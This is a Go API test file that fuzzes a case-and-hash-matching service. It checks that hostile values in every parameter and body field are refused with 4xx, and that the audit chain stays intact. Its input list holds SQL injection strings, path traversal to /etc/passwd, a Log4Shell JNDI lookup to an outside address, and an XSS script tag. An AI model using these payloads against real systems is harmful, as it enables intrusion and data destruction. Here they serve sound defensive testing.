package api_test

import (
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/vibora-project/vibora/internal/store/storetest"
)

// hostile are values sent in every parameter and body field.
var hostile = []string{
	"' OR '1'='1", `x"; DROP TABLE cases; --`, "1; DELETE FROM audit", "../../../etc/passwd", `..\..\windows`,
	"/etc/passwd", "\x00", "a\x00b", "\xff\xfe\xfd", "\u202egnp.exe", "${jndi:ldap://203.0.113.5/a}", "<script>alert(1)</script>",
	"-1", "0", "99999999999999999999999", "1e308", "NaN", strings.Repeat("A", 64<<10), "%", "%zz", "*", "?",
}

// TestHostileInput: hostile values in every path parameter, query
// parameter and body field answer 4xx, never 5xx; refused requests change
// nothing and the audit chain stays intact.
func TestHostileInput(t *testing.T) {
	storetest.Each(t, func(t *testing.T, open storetest.Opener) {
		h := newHub(t, open)
		check := func(persona, method, path string, body any, must4xx bool) {
			t.Helper()
			n := int64(-1)
			if method != "GET" {
				n = h.auditCount()
			}
			res, b := h.do(persona, method, path, body)
			if res.StatusCode >= 500 || (must4xx && (res.StatusCode < 400 || res.StatusCode > 499)) {
				t.Errorf("%s %.120q body %.120v: %d %.200s", method, path, body, res.StatusCode, b)
			}
			if n >= 0 && res.StatusCode >= 400 && h.auditCount() != n {
				t.Errorf("%s %.120q body %.120v: refused with %d but changed the audit trail", method, path, body, res.StatusCode)
			}
		}
		for _, v := range hostile {
			p := url.PathEscape(v)
			q := url.QueryEscape(v)
			// Path parameters name nothing that exists: 4xx.
			for _, path := range []string{"/api/v1/cases/" + p, "/api/v1/cases/" + p + "/report", "/api/v1/cases/" + p + "/files",
				"/api/v1/cases/" + p + "/files/1", "/api/v1/cases/alpha/files/" + p, "/api/v1/banks/" + p, "/api/v1/banks/" + p + "/export"} {
				check(agencyAdminNL, "GET", path, nil, true)
			}
			check(agencyAdminNL, "DELETE", "/api/v1/banks/"+p, nil, true)
			check(analystNL, "DELETE", "/api/v1/banks/"+p, nil, true)
			// Paging and enumerated parameters are checked: 4xx.
			for _, path := range []string{"/api/v1/cases?limit=" + q, "/api/v1/cases?cursor=" + q, "/api/v1/banks?cursor=" + q,
				"/api/v1/cases/alpha/files?limit=" + q, "/api/v1/cases/alpha/files?cursor=" + q, "/api/v1/cases/alpha/files?status=" + q,
				"/api/v1/cases/alpha/files?exhibit=" + q, "/api/v1/banks/known/export?format=" + q} {
				check(agencyAdminNL, "GET", path, nil, true)
			}
			check(hubAdmin, "GET", "/api/v1/audit?cursor="+q, nil, true)
			check(hubAdmin, "GET", "/api/v1/audit?limit="+q, nil, true)
			// Free-text filters may match nothing: any status but 5xx.
			check(agencyAdminNL, "GET", "/api/v1/cases/alpha/files?category="+q, nil, false)
			check(hubAdmin, "GET", "/api/v1/audit?object="+q, nil, false)
			// Body fields: a value that is not a hash, a distance that is
			// not one, names with control characters or too long.
			check(analystNL, "POST", "/api/v1/match", map[string]any{"hashes": []string{v}}, true)
			check(analystNL, "POST", "/api/v1/match", fmt.Sprintf(`{"hashes":["md5:%032x"],"max_distance":%q}`, 1, v), true)
			check(anonymous, "POST", "/api/v1/session", map[string]any{"username": v, "password": v}, true)
			// Accounts and access: path parameters name nothing (4xx); a
			// hostile value in a body is refused or, when it happens to be a
			// valid name, accepted (the check above sees that a refusal
			// changed nothing).
			for _, path := range []string{"/api/v1/users/" + p + "/password"} {
				check(agencyAdminNL, "PUT", path, map[string]string{"password": "a-long-enough-password"}, true)
			}
			for _, path := range []string{"/api/v1/users/" + p + "/disable"} {
				check(agencyAdminNL, "POST", path, nil, true)
			}
			for _, path := range []string{"/api/v1/tokens/" + p, "/api/v1/cases/alpha/shares/" + p, "/api/v1/cases/alpha/members/" + p, "/api/v1/cases/" + p + "/shares/be"} {
				check(agencyAdminNL, "DELETE", path, nil, true)
			}
			for _, path := range []string{"/api/v1/cases/" + p + "/shares", "/api/v1/cases/" + p + "/members"} {
				check(agencyAdminNL, "GET", path, nil, true)
			}
			check(agencyAdminNL, "POST", "/api/v1/cases/alpha/shares", map[string]string{"agency": v, "role": "viewer"}, true)
			check(agencyAdminNL, "POST", "/api/v1/cases/alpha/shares", map[string]string{"agency": "be", "role": v}, true)
			check(agencyAdminNL, "POST", "/api/v1/cases/alpha/members", map[string]string{"user": v, "role": "viewer"}, true)
			check(agencyAdminNL, "POST", "/api/v1/cases/alpha/members", map[string]string{"user": "analyst-nl", "role": v}, true)
			check(hubAdmin, "POST", "/api/v1/agencies", map[string]string{"name": v, "country": "NL"}, false)
			check(hubAdmin, "POST", "/api/v1/agencies", map[string]string{"name": "ok-name", "country": v}, true)
			check(agencyAdminNL, "POST", "/api/v1/users", map[string]string{"name": v, "agency": "nl", "role": "viewer", "password": "a-long-enough-password"}, false)
			check(agencyAdminNL, "POST", "/api/v1/users", map[string]string{"name": "ok-user", "agency": v, "role": "viewer", "password": "a-long-enough-password"}, true)
			check(agencyAdminNL, "POST", "/api/v1/users", map[string]string{"name": "ok-user", "agency": "nl", "role": v, "password": "a-long-enough-password"}, true)
			check(agencyAdminNL, "POST", "/api/v1/tokens", map[string]string{"user": v}, false) // a user of that name may have been made above
			check(agencyAdminNL, "POST", "/api/v1/tokens", fmt.Sprintf(`{"user":"agency-admin-nl","expires_days":%q}`, v), true)
		}
		for _, body := range []string{`{"user":"agency-admin-nl","expires_days":-1}`, `{"user":"agency-admin-nl","expires_days":99999999999}`, `{"user":"agency-admin-nl","name":"` + strings.Repeat("n", 200) + `"}`} {
			check(agencyAdminNL, "POST", "/api/v1/tokens", body, true)
		}
		// Wrong JSON types and shapes, invalid UTF-8, trailing data.
		for _, body := range []string{
			`{"name":5}`, `{"name":null}`, `{"name":["a"]}`, `{"name":{"a":1}}`, `[]`, `"alpha"`, `null`, ``, `{`, `{"name":"x"}{"name":"y"}`,
			`{"name":"x","unknown":1}`, "{\"name\":\"\xff\xfe\"}", `{"name":"a\u0000b"}`, `{"name":"` + strings.Repeat("n", 300) + `"}`,
			`{"name":"x","country":"NLD"}`, `{"name":"  "}`, strings.Repeat("[", 100000),
		} {
			check(analystNL, "POST", "/api/v1/cases", body, true)
		}
		for _, body := range []string{
			`{"hashes":"md5:00"}`, `{"hashes":[1,2]}`, `{"hashes":[]}`, `{"hashes":null}`, `{"hashes":["md5:0"],"max_distance":32}`,
			`{"hashes":["md5:00000000000000000000000000000001"],"max_distance":-1}`, `{"hashes":["md5:00000000000000000000000000000001"],"max_distance":1.5}`,
			`{"hashes":["md5:00000000000000000000000000000001"],"max_distance":"31"}`, `{"hashes":["pdq:` + strings.Repeat("0", 63) + `"]}`,
			`{"hashes":["sha1:` + strings.Repeat("0", 32) + `"]}`, `{"hashes":["` + strings.Repeat("0", 33) + `"]}`,
			fmt.Sprintf(`{"hashes":[%s]}`, strings.TrimSuffix(strings.Repeat(`"md5:00000000000000000000000000000001",`, 10001), ",")),
		} {
			check(analystNL, "POST", "/api/v1/match", body, true)
		}
		// Oversized bodies: past the JSON limit, and past the server's.
		for _, n := range []int{2 << 20, 5 << 20} {
			res, _ := h.do(analystNL, "POST", "/api/v1/match", `{"hashes":["`+strings.Repeat("a", n)+`"]}`)
			if res.StatusCode != 413 {
				t.Errorf("body of %d bytes: %d, want 413", n, res.StatusCode)
			}
		}
		before := h.auditCount()
		// An injection string is a valid name: stored verbatim, nothing else.
		name := `x'); DROP TABLE cases; --`
		if res, b := h.do(analystNL, "POST", "/api/v1/cases", map[string]string{"name": name}); res.StatusCode != 201 {
			t.Fatalf("create %q: %d %s", name, res.StatusCode, b)
		}
		var list struct {
			Cases []struct{ Name string } `json:"cases"`
		}
		_, b := h.do(analystNL, "GET", "/api/v1/cases", nil)
		decode(t, b, &list)
		if len(list.Cases) != 2 || list.Cases[1].Name != name && list.Cases[0].Name != name {
			t.Errorf("cases after the injection name: %+v", list.Cases)
		}
		if after := h.auditCount(); after != before+1 {
			t.Errorf("one case created, %d audit records written", after-before)
		}
		h.chainIntact()
	})
}
